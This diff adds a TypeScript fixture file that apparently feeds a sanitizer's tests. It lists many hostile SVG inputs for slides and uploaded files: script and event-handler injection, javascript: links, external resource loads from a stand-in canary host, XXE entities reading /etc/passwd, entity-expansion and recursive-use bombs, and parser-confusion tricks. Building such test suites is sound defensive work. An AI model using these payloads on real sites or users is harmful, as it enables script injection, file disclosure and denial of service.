@@ -1,0 +1,140 @@
+import { type Attack, hit, numbered } from './attack.ts'
+
+const url = 'http://canary.invalid/x'
+
+/** What stands inside an svg element, in a slide as well as in an uploaded file. */
+const contents: readonly string[] = [
+  `<script>${hit}</script>`,
+  `<script type="text/ecmascript"><![CDATA[${hit}]]></script>`,
+  `<script href="data:text/javascript,${hit}"/>`,
+  `<script xlink:href="${url}.js"/>`,
+  `<g onload="${hit}"/>`,
+  `<rect width="9" height="9" onclick="${hit}"/>`,
+  `<image href="x:" onerror="${hit}"/>`,
+  `<image xlink:href="${url}.png"/>`,
+  `<image href="data:image/svg+xml,&lt;svg onload='${hit}'/>"/>`,
+  `<feImage href="${url}.svg"/>`,
+  `<filter id="f"><feImage xlink:href="${url}"/></filter><rect filter="url(#f)" width="9" height="9"/>`,
+  `<use href="${url}.svg#a"/>`,
+  `<use xlink:href="data:image/svg+xml,&lt;svg id='a' onload='${hit}'/>#a"/>`,
+  `<use href="//canary.invalid/x.svg#a"/>`,
+  `<a href="javascript:${hit}"><text y="9">click</text></a>`,
+  `<a xlink:href="javascript:${hit}"><rect width="9" height="9"/></a>`,
+  `<a href="data:text/html,x"><rect width="9" height="9"/></a>`,
+  `<animate attributeName="href" values="javascript:${hit}"/>`,
+  `<a><animate attributeName="href" to="javascript:${hit}"/><text y="9">click</text></a>`,
+  `<a><set attributeName="xlink:href" to="javascript:${hit}"/><text y="9">click</text></a>`,
+  `<animate attributeName="onclick" values="${hit}"/>`,
+  `<set attributeName="onmouseover" to="${hit}"/>`,
+  `<animate onbegin="${hit}" attributeName="x" dur="1s"/>`,
+  `<animateTransform onrepeat="${hit}" attributeName="transform" dur=".1s" repeatCount="3"/>`,
+  `<animateMotion onend="${hit}" dur=".01s" path="M0 0"/>`,
+  `<discard onbegin="${hit}"/>`,
+  `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x:" onerror="${hit}"/></body></foreignObject>`,
+  `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${hit}"></iframe></foreignObject>`,
+  `<foreignObject width="99" height="99"><p>text</p></foreignObject>`,
+  `<switch><foreignObject><img src="x:" onerror="${hit}"/></foreignObject></switch>`,
+  `<style>@import "${url}"; rect{fill:url(${url}#a)}</style>`,
+  `<style>.a{background:url(${url})}</style><rect class="a"/>`,
+  `<style>rect{fill:red}</style><rect width="9" height="9"/>`,
+  `<style><![CDATA[</style><script>${hit}</script>]]></style>`,
+  `<rect fill="url(${url}#a)" width="9" height="9"/>`,
+  `<rect stroke="url(//canary.invalid/x#a)"/>`,
+  `<rect fill="javascript:${hit}"/>`,
+  `<rect clip-path="url(${url}#a)" mask="url(${url}#b)" filter="url(${url}#c)"/>`,
+  `<path marker-end="url(${url}#a)" d="M0 0L9 9"/>`,
+  `<path d="M0 0&quot;><script>${hit}</script>"/>`,
+  `<text><tspan onclick="${hit}">a</tspan></text>`,
+  `<text><textPath href="${url}#a">a</textPath></text>`,
+  `<title><img src="x:" onerror="${hit}"/></title>`,
+  `<desc><script>${hit}</script></desc>`,
+  `<metadata><script>${hit}</script></metadata>`,
+  `<iframe src="javascript:${hit}"/>`,
+  `<embed src="data:text/html,x"/>`,
+  `<video src="${url}.mp4" autoplay="autoplay"/>`,
+  `<audio src="${url}.mp3" autoplay="autoplay"/>`,
+  `<html:script xmlns:html="http://www.w3.org/1999/xhtml">${hit}</html:script>`,
+  `<x:script xmlns:x="http://www.w3.org/2000/svg">${hit}</x:script>`,
+  `<script xmlns="">${hit}</script>`,
+  `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${hit}</handler>`,
+  `<linearGradient xlink:href="${url}#a" id="g"/>`,
+  `<pattern href="${url}#a" id="p"/>`,
+  `<color-profile xlink:href="${url}.icc" name="x"/>`,
+  `<cursor xlink:href="${url}.cur"/>`,
+  `<font-face><font-face-src><font-face-uri xlink:href="${url}.svg"/></font-face-src></font-face>`,
+  `<tref xlink:href="${url}#a"/>`,
+  `<mpath xlink:href="${url}#a"/>`,
+  `<g style="background:url(${url})" xml:base="javascript:${hit}//"/>`,
+  `<g transform="translate(1)&#10;javascript:${hit}"/>`,
+  `<g requiredExtensions="${url}" systemLanguage="x"/>`,
+  `<g tabindex="0" onfocus="${hit}" autofocus="autofocus"/>`,
+  `<text font-family="&quot;;background:url(${url})">a</text>`,
+  `<!-- --><script>${hit}</script><!-- -->`,
+  `<?xml-stylesheet href="${url}.css"?><script>${hit}</script>`,
+]
+
+/** Drawings inside slides. */
+export const inlineSvgAttacks: readonly Attack[] = numbered(
+  'drawing',
+  contents.map((content) => `<svg viewBox="0 0 9 9">${content}</svg>`),
+)
+
+const open = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"'
+
+function doubling(levels: number): string {
+  const lines = Array.from({ length: levels }, (_, level) => {
+    const uses = `<use href="#a${level}"/>`.repeat(10)
+    return `<g id="a${level + 1}">${uses}</g>`
+  })
+  return `<g id="a0"><rect width="1" height="1"/></g>${lines.join('')}<use href="#a${levels}"/>`
+}
+
+/** Uploaded SVG files. */
+export const svgFileAttacks: readonly Attack[] = [
+  ...numbered(
+    'file with',
+    contents.map((content) => `${open}>${content}</svg>`),
+  ),
+  ...numbered('file', [
+    `${open} onload="${hit}"/>`,
+    `${open} onload="${hit}"><rect width="9" height="9"/></svg>`,
+    `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="${url}.css"?>${open}/>`,
+    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml,x"?>${open}/>`,
+    `<!DOCTYPE svg [<!ENTITY x "<script>${hit}</script>">]>${open}>&x;</svg>`,
+    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${open}><text>&x;</text></svg>`,
+    `<!DOCTYPE svg [<!ENTITY % x SYSTEM "${url}.dtd">%x;]>${open}/>`,
+    `<!DOCTYPE svg SYSTEM "${url}.dtd">${open}/>`,
+    `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>${open}><text>&c;</text></svg>`,
+    `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${hit}">]>${open}/>`,
+    `<!DOCTYPE svg [ ]]>${open}/>`,
+    `<!DOCTYPE svg "]>${open}/>`,
+    `${open}>${doubling(4)}</svg>`,
+    `${open}>${doubling(9)}</svg>`,
+    `${open}><g id="a"><use href="#a"/></g></svg>`,
+    `${open}><g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g></svg>`,
+    `${open}><g id="a.b"><use href="#a-b"/></g></svg>`,
+    `${open}>${'<g>'.repeat(5000)}${'</g>'.repeat(5000)}</svg>`,
+    `${open}>${'<rect/>'.repeat(60_000)}</svg>`,
+    `${open}><rect ${Array.from({ length: 100 }, (_, index) => `a${index}="1"`).join(' ')}/></svg>`,
+    `<svg/onload=${hit}>`,
+    `<svg onload="${hit}"`,
+    `<html><body><svg viewBox="0 0 1 1"/><script>${hit}</script></body></html>`,
+    `<x:svg xmlns:x="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><x:script>${hit}</x:script><x:rect/></x:svg>`,
+    `<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 1 1"><script>${hit}</script></svg>`,
+    `<svg xmlns="http://www.w3.org/2000/svg"><script>${hit}</script></svg>`,
+    `<svg xmlns="http://www.w3.org/2000/svg" width="0" height="0"/>`,
+    `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1e99 1e99"/>`,
+    `<svg xmlns="http://www.w3.org/2000/svg" width="99999999" height="99999999"/>`,
+    `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1" width="1&quot; onload=&quot;${hit}" height="1"/>`,
+    `${open}></svg><script>${hit}</script>`,
+    `${open}></svg><svg onload="${hit}"/>`,
+    `${open}><a:b xmlns:a="${url}">${hit}</a:b></svg>`,
+    `${open}><g a="1" a="2"/></svg>`,
+    `${open}><g <script>${hit}</script>/></svg>`,
+    `${open}>]]>&amp;#60;script&#62;${hit}</svg>`,
+    `${open}><text>&#60;script&#62;${hit}&#0;&#xFFFF;&#x110000;&bogus;</text></svg>`,
+    `\ufeff${open} onload="${hit}"/>`,
+    `\u0000${open} onload="${hit}"/>`,
+    `${open.replaceAll('"', "'")} onload='${hit}'/>`,
+  ]),
+]
